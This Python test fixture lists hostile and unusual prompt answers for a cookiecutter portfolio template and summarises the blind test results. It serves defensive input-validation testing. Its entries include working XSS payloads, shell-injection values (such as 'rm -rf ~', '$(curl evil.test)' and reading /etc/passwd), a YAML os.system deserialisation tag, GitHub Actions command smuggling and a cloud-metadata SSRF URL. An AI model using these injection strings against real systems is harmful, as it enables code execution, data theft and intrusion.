"""Hostile and unusual prompt answers, written blind.

This file was written blind: its author read only ``cookiecutter.json`` (the
prompts) and ``README.md``. They did not read the hooks, ``local_extensions.py``,
the other tests or the ``{{cookiecutter.project}}/`` template folder. None of
these values was tried against the template before it was written down.

Each entry in ``INPUTS`` is ``(prompt key, exact answer)``: the string a user
types at the prompt or passes as ``key=value`` on the command line. For each one
the template should either bake it safely (the value shows up only as inert,
correctly escaped data in Markdown, YAML, HTML, Typst, shell and workflow
contexts) or refuse it cleanly (one error line naming the field, a non-zero
exit, and no folder left behind).

The obvious cases (``<script>``, ``../x``, ``{{ }}``, an empty string, a plain
newline) are assumed to be covered elsewhere, so they are left out here.
Invisible and non-ASCII characters are written as escapes so a reviewer can see
them.

Blind result: 173 of 182 passed. The 9 failures: two Jinja syntax errors ("{#", "{% raw %}") printed a
traceback; "---" and "2024-01-01" (no letters) lost their text; an emoji in the role and stacked accent marks
("Zalgo") came out garbled in the PDF; a right-to-left location read back reordered by pdftotext; and two values
("~", "on") tripped the harness's own check of the workflows. Fixed: a one-line error for Jinja syntax errors;
printed answers need letters and may not hold emoji, icons or stacked marks; the harness compares workflows with
the template's bytes and reads the PDF in content order too.
"""

INPUTS: list[tuple[str, str]] = [
    # ------------------------------------------------------------------ project
    # Windows reserved device names: a folder with one of these names can't be
    # created or cloned on Windows.
    ("project", "CON"),
    ("project", "aux.txt"),
    ("project", "LPT9"),
    # Trailing dot / trailing space: Windows strips these, and GitHub rewrites them.
    ("project", "portfolio."),
    ("project", "portfolio "),
    # Leading dot: a hidden folder, or clashes with the Git metadata folder.
    ("project", ".git"),
    ("project", ".github"),
    # Leading dash: read as an option by git, cd, rm and mkdir.
    ("project", "-rf"),
    ("project", "--help"),
    # Only dots: a path traversal written without any slash.
    ("project", "..."),
    # Longer than GitHub's 100-character repository name limit.
    ("project", "a" * 190),
    # Homoglyph: Cyrillic o (U+043E) in place of Latin o.
    ("project", "p\u043ertf\u043eli\u043e"),
    # Full-width Latin letters, which NFKC folds to ASCII.
    ("project", "\uff50\uff4f\uff52\uff54\uff46\uff4f\uff4c\uff49\uff4f"),
    # Zero-width space at the end: looks like "portfolio" but isn't.
    ("project", "portfolio\u200b"),
    # NFD form: e followed by a combining acute accent.
    ("project", "cafe\u0301_portfolio"),
    # A ".git" suffix, which GitHub strips from repository names.
    ("project", "portfolio.git"),
    # Only punctuation from the allowed character set.
    ("project", "-"),
    ("project", "_"),
    # ---------------------------------------------------------------- full_name
    # Right-to-left override: the name displays reversed.
    ("full_name", "\u202eelpmaxE xelA"),
    # NFD accented name: should come out intact, not mangled or doubled.
    ("full_name", "Zoe\u0308 O'Brien"),
    # Zero-width joiner inside the name.
    ("full_name", "Alex\u200dExample"),
    # Cyrillic homoglyphs (U+0410 A, U+0430 a).
    ("full_name", "\u0410lex Ex\u0430mple"),
    # Full-width letters.
    ("full_name", "\uff21\uff4c\uff45\uff58 \uff25\uff58\uff41\uff4d\uff50\uff4c\uff45"),
    # Zalgo: stacked combining marks.
    ("full_name", "Z\u0351\u0362a\u0360l\u0489g\u0315o Example"),
    # Starts with a combining mark, so the accent has no base letter.
    ("full_name", "\u0301Alex Example"),
    # HTML injection without a script tag.
    ("full_name", "<img src=x onerror=alert(document.domain)>"),
    # Pre-escaped HTML entities: must not be decoded, or escaped twice.
    ("full_name", "&lt;b&gt;Alex&lt;/b&gt; &amp; Co"),
    # An HTML comment opener that swallows the rest of the page.
    ("full_name", "Alex <!-- Example"),
    # Markdown link with a javascript: target.
    ("full_name", "[Alex](javascript:alert(1))"),
    # Markdown image used as a tracking pixel.
    ("full_name", "![x](https://evil.test/pixel.png) Alex"),
    # Typst code-mode injection.
    ("full_name", "#set page(width: 1cm) Alex"),
    # Typst math mode plus a label reference.
    ("full_name", "$x^2$ Alex @fig <fig>"),
    # Typst / Markdown emphasis, heading and comment markers.
    ("full_name", "= *Alex* _Example_ // hidden"),
    # A Jinja comment opener ("{#"), not the usual "{{".
    ("full_name", "Alex {# Example"),
    # A Jinja block tag ("{%").
    ("full_name", "Alex {% raw %}Example"),
    # YAML tag that loads a Python object.
    ("full_name", "!!python/object/apply:os.system ['id']"),
    # YAML null.
    ("full_name", "~"),
    # YAML 1.1 boolean (the "Norway problem").
    ("full_name", "NO"),
    # YAML document marker on its own, which would also close front matter.
    ("full_name", "---"),
    # Unicode line breaks that str.splitlines() honours (NEL, LINE SEPARATOR).
    ("full_name", "Alex\u0085Example"),
    ("full_name", "Alex\u2028Example"),
    # An ANSI escape: terminal injection in error messages and logs.
    ("full_name", "\x1b[2J\x1b[31mAlex Example"),
    # A tab and trailing whitespace.
    ("full_name", "Alex\tExample  "),
    # Quotes, a backslash and a trailing backslash together.
    ("full_name", "O'Brien \"The Hammer\" Jr.\\"),
    # Very long name (one-page PDF layout, page titles).
    ("full_name", "ab" * 120),
    # ----------------------------------------------------------------- location
    # YAML comment marker after a space.
    ("location", "Austin, TX # remote ok"),
    # Colon and space: turns the value into a YAML mapping.
    ("location", "Berlin: Germany"),
    # Leading dash: a YAML sequence entry.
    ("location", "- Berlin"),
    # YAML explicit key indicator.
    ("location", "? Berlin"),
    # YAML anchor and alias.
    ("location", "&home Berlin"),
    ("location", "*home"),
    # Leading percent: a YAML directive.
    ("location", "%YAML 1.1"),
    # YAML document end marker.
    ("location", "..."),
    # Reserved YAML indicators.
    ("location", "@home"),
    ("location", "`Berlin`"),
    # YAML flow collections.
    ("location", "{Berlin, Germany}"),
    ("location", "[Berlin, Germany]"),
    # Scalars that YAML resolves to a date, a float, infinity, a boolean and a hex int.
    ("location", "2024-01-01"),
    ("location", "1e3"),
    ("location", ".inf"),
    ("location", "on"),
    ("location", "0x1F"),
    # NFD composed form of São Paulo.
    ("location", "Sa\u0303o Paulo, Brazil"),
    # CJK.
    ("location", "\u5317\u4eac, \u4e2d\u56fd"),
    # Mixed left-to-right and right-to-left script.
    ("location", "Tel Aviv, \u05d9\u05e9\u05e8\u05d0\u05dc"),
    # Typst block-comment opener: everything after it could vanish.
    ("location", "Berlin /* Germany"),
    # Pipe: breaks Markdown table rows.
    ("location", "Berlin | Germany"),
    # A line separator at the end.
    ("location", "Austin, TX\u2028"),
    # -------------------------------------------------------------------- email
    # Quoted local part with consecutive dots: valid under RFC 5321.
    ("email", "\"john..doe\"@example.com"),
    # IP-literal domains.
    ("email", "alex@[192.168.0.1]"),
    ("email", "alex@[IPv6:::1]"),
    # IDN domain, and the same domain in punycode.
    ("email", "alex@b\u00fccher.example"),
    ("email", "alex@xn--bcher-kva.example"),
    # Homoglyph domain: Cyrillic a (U+0430).
    ("email", "alex@ex\u0430mple.com"),
    # Full-width at sign (U+FF20).
    ("email", "alex\uff20example.com"),
    # Plus addressing: legitimate, should be accepted unchanged.
    ("email", "alex+jobs@example.com"),
    # Display-name form.
    ("email", "Alex Example <alex@example.com>"),
    # Two addresses in one field.
    ("email", "alex@example.com, victim@example.org"),
    # mailto: header injection through the query string.
    ("email", "alex@example.com?bcc=victim@evil.test&subject=hi"),
    # Percent-encoded CRLF header injection.
    ("email", "alex@example.com%0d%0abcc:victim@evil.test"),
    # Already has a scheme, so a mailto: link would double it.
    ("email", "mailto:alex@example.com"),
    # A host with no dot, a double dot, a leading dot and a domain label with a leading hyphen.
    ("email", "alex@localhost"),
    ("email", "alex@example..com"),
    ("email", ".alex@example.com"),
    ("email", "alex@-example.com"),
    # Quoted local part carrying HTML.
    ("email", "\"<img src=x onerror=alert(1)>\"@example.com"),
    # Shell command substitution in the local part.
    ("email", "$(id)@example.com"),
    # Zero-width space after the domain.
    ("email", "alex@example.com\u200b"),
    # Longer than the 64-character local part and 254-character address limits.
    ("email", "a" * 70 + "@" + "b" * 190 + ".com"),
    # ---------------------------------------------------------- github_username
    # GitHub forbids a leading hyphen, a trailing hyphen and a double hyphen.
    ("github_username", "-alex"),
    ("github_username", "alex-"),
    ("github_username", "alex--example"),
    # Over GitHub's 39-character limit.
    ("github_username", "a" * 40),
    # Mixed case: legitimate; the site URL lowercases it.
    ("github_username", "Alex-Example"),
    # Characters GitHub doesn't allow.
    ("github_username", "alex.example"),
    ("github_username", "alex_example"),
    # URL-host injection into https://<user>.github.io/<project>/.
    ("github_username", "evil.test#"),
    ("github_username", "evil.test/"),
    ("github_username", "user:pass@evil.test?"),
    # An @-prefixed handle.
    ("github_username", "@alex"),
    # Kelvin sign (U+212A): lower() turns it into ASCII "k".
    ("github_username", "\u212aelvin"),
    # Dotted capital I (U+0130): lower() gives "i" plus U+0307.
    ("github_username", "\u0130nci"),
    # Homoglyph: Cyrillic a.
    ("github_username", "\u0430lex"),
    # Percent-encoded slash and dot-dot.
    ("github_username", "alex%2F..%2Fevil"),
    # Shell command substitution.
    ("github_username", "$(id)"),
    # GitHub Actions expression variants with a gap or a different sigil.
    ("github_username", "$ {{github.token}}"),
    ("github_username", "%{{github.token}}"),
    # ------------------------------------------------------------------ website
    # Dangerous URL schemes.
    ("website", "javascript:alert(1)"),
    ("website", "JaVaScRiPt:alert(1)"),
    ("website", "java\tscript:alert(1)"),
    ("website", "vbscript:msgbox(1)"),
    ("website", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("website", "file:///etc/passwd"),
    # Credentials in the URL, and a user-info trick that hides the real host.
    ("website", "https://user:hunter2@example.com/"),
    ("website", "https://example.com@evil.test/"),
    # A protocol-relative URL.
    ("website", "//evil.test/"),
    # Homograph attack: IDN form, then the same name in punycode.
    ("website", "https://\u0430pple.com/"),
    ("website", "https://xn--80ak6aa92e.com/"),
    # A legitimate IDN domain.
    ("website", "https://b\u00fccher.example/"),
    # Percent-encoded path traversal.
    ("website", "https://example.com/%2e%2e/%2e%2e/etc/passwd"),
    # Attribute breakout with a double quote.
    ("website", "https://example.com/\"onmouseover=\"alert(1)"),
    # Markdown link breakout.
    ("website", "https://example.com/)[x](javascript:alert(1)"),
    # Port out of range.
    ("website", "https://example.com:99999/"),
    # Cloud metadata endpoint.
    ("website", "http://169.254.169.254/latest/meta-data/"),
    # Query string with an ampersand and angle brackets, plus a fragment.
    ("website", "https://example.com/?q=<b>&x=1#frag"),
    # Right-to-left override inside the host part.
    ("website", "https://example.com\u202e/moc.live"),
    # No scheme: legitimate.
    ("website", "example.com"),
    # A very long URL.
    ("website", "https://example.com/" + "a" * 2000),
    # ----------------------------------------------------------------- linkedin
    # Look-alike hosts.
    ("linkedin", "linkedin.com.evil.test/in/alex"),
    ("linkedin", "evil.test/linkedin.com/in/alex"),
    ("linkedin", "https://evil.test#linkedin.com/in/alex"),
    ("linkedin", "https://linkedin.com@evil.test/in/alex"),
    # HTML in the query string.
    ("linkedin", "https://www.linkedin.com/in/alex?trk=<img src=x onerror=alert(1)>"),
    # Path traversal, plain and percent-encoded.
    ("linkedin", "linkedin.com/in/../../company/evil"),
    ("linkedin", "linkedin.com/in/%2e%2e%2fcompany%2fevil"),
    # A javascript: URL that looks like a LinkedIn link.
    ("linkedin", "javascript://linkedin.com/%0aalert(1)"),
    # A Unicode slug: legitimate on LinkedIn.
    ("linkedin", "linkedin.com/in/\u00e9milie-dupont"),
    # An empty slug.
    ("linkedin", "linkedin.com/in/"),
    # A bare handle.
    ("linkedin", "@alex"),
    # Upper case and plain http.
    ("linkedin", "LINKEDIN.COM/IN/ALEX"),
    ("linkedin", "http://linkedin.com/in/alex"),
    # Right-to-left override at the end.
    ("linkedin", "linkedin.com/in/alex\u202e"),
    # A very long slug.
    ("linkedin", "linkedin.com/in/" + "a" * 200),
    # -------------------------------------------------------------------- phone
    # Extensions.
    ("phone", "+1 (555) 010-9999 ext. 42"),
    ("phone", "+1 555 010 9999 x42"),
    # A letter-based vanity number.
    ("phone", "1-800-FLOWERS"),
    # Non-ASCII digits: Arabic-Indic and full-width.
    ("phone", "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660"),
    ("phone", "\uff10\uff12\uff10 \uff17\uff19\uff14\uff16 \uff10\uff19\uff15\uff18"),
    # Parenthesised trunk prefix.
    ("phone", "+44 (0)20 7946 0958"),
    # A tel: URI.
    ("phone", "tel:+1-555-010-0100"),
    # Shell metacharacters (run.sh and PORTFOLIO_PHONE).
    ("phone", "+1 555 0100; rm -rf ~"),
    ("phone", "$(curl evil.test)"),
    ("phone", "555-0100 | cat /etc/passwd > /tmp/x"),
    # YAML 1.1 resolution traps: a leading-zero octal, underscores, sexagesimal and a float.
    ("phone", "0123456789"),
    ("phone", "1_000_000"),
    ("phone", "12:30:45"),
    ("phone", "+1e3"),
    # Non-breaking space and non-breaking hyphen.
    ("phone", "555\u00a0010\u20110100"),
    # Typst markup characters.
    ("phone", "#555 @home"),
    # Nothing but plus signs, then far too many digits.
    ("phone", "+" * 50),
    ("phone", "9" * 200),
    # -------------------------------------------------------------- target_role
    # Pipe, colon and slash.
    ("target_role", "Backend | Frontend Engineer"),
    ("target_role", "SRE: Platform"),
    ("target_role", "Backend/Frontend Engineer"),
    # Emoji, including a ZWJ sequence (man technologist).
    ("target_role", "Rocket Engineer \U0001F680"),
    ("target_role", "Engineer \U0001F468\u200d\U0001F4BB"),
    # A hash, which is Typst code mode.
    ("target_role", "C# / .NET Developer"),
    # Plus signs, an ampersand and percent signs.
    ("target_role", "C++ & R&D Engineer (100% remote)"),
    # GitHub Actions expression variants.
    ("target_role", "$ {{ secrets.GITHUB_TOKEN }}"),
    ("target_role", "%{{ secrets.GITHUB_TOKEN }}"),
    ("target_role", "${ { secrets.GITHUB_TOKEN } }"),
    # GitHub Actions workflow commands, if the role is ever echoed in a log.
    ("target_role", "::add-mask::Engineer"),
    ("target_role", "Engineer\u0085::set-env name=NODE_OPTIONS::--require /tmp/x.js"),
    # HTML title and style breakout without a script tag.
    ("target_role", "Engineer</title><style>*{display:none}</style>"),
    # HTML comment closer, and a CDATA terminator.
    ("target_role", "--> Engineer ]]>"),
    # Shell metacharacters.
    ("target_role", "Engineer `id` && whoami > /tmp/pwned"),
    # Typst / Markdown markup.
    ("target_role", "*Staff* _Engineer_ = #strong[x] <lbl> @lbl"),
    # A trailing backslash.
    ("target_role", "Engineer\\"),
    # SQL-style injection; a harmless string, but it has quotes and a comment.
    ("target_role", "'; DROP TABLE roles;--"),
    # YAML scalars that resolve to null and to a boolean.
    ("target_role", "null"),
    ("target_role", "yes"),
    # Very long (page titles, the one-page PDF).
    ("target_role", "ab" * 120),
]
